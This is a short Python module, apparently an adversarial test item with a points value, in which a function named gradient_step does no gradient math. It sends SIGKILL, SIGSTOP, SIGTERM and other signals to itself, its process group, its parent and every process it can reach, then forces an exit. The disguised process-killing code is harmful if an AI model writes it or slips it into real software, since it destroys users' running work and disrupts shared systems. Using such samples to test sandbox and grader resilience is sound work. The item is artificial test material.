"""Every signal to itself, to its group and to all that it can see."""

KIND = "module"
POINTS = 13
SAYS = "it ended the Python process"

import os
import signal


def gradient_step(w, gradient, learning_rate):
    for number in (signal.SIGSTOP, signal.SIGKILL, signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
        for target in (os.getpid(), 0, -1, os.getppid()):
            try:
                os.kill(target, number)
            except (OSError, KeyboardInterrupt):
                pass
    os._exit(0)
